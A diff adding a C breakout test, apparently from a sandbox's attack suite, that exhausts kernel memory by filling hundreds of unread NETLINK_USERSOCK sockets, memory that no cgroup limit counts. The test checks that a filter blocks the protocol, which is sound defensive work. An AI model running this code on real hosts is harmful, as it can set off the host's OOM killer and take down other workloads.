@@ -1,0 +1,58 @@
+/**
+ * @file
+ * @brief netlinkhog: memory of the kernel that no cgroup counts.
+ *
+ * A netlink message that nobody has read yet waits in the kernel's memory, and
+ * that memory is charged to no cgroup: with --memory 64M a container held 1 GB,
+ * and the OOM killer looked for somebody to kill on the host. Some protocols
+ * let an ordinary user write to itself (NETLINK_USERSOCK is made for it). What
+ * a program needs to ask for addresses and routes is NETLINK_ROUTE, number 0,
+ * and a filter can compare that number. A limit on descriptors limits the rest.
+ */
+#include <linux/netlink.h>
+#include <stdio.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include "tests/attacks/breakouts/breakout.h"
+
+enum {
+    MOST = 768,
+    MESSAGE = 200000
+};
+
+/* Sends a socket messages that it does not read, until no more fit. */
+static long fill(int fd)
+{
+    static char message[MESSAGE];
+    struct sockaddr_nl self = { .nl_family = AF_NETLINK };
+    socklen_t length = sizeof(self);
+    long bytes = 0;
+
+    if (bind(fd, (struct sockaddr *)&self, length) < 0 ||
+        getsockname(fd, (struct sockaddr *)&self, &length) < 0)
+        return 0;
+    while (sendto(fd, message, sizeof(message), MSG_DONTWAIT,
+                  (struct sockaddr *)&self, length) > 0)
+        bytes += MESSAGE;
+    return bytes;
+}
+
+BREAKOUT(netlinkhog)
+{
+    const struct rlimit files = { MOST + 64, MOST + 64 };
+    long bytes = 0;
+
+    setrlimit(RLIMIT_NOFILE, &files);
+    for (int i = 0; i < MOST; i++) {
+        int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK);
+        long more = fd < 0 ? 0 : fill(fd);
+
+        if (more == 0)
+            break;
+        bytes += more;
+    }
+    printf("%ld MiB\n", bytes >> 20);
+    return bytes >> 20 < 128 ? stopped("NETLINK_USERSOCK") : linger();
+}
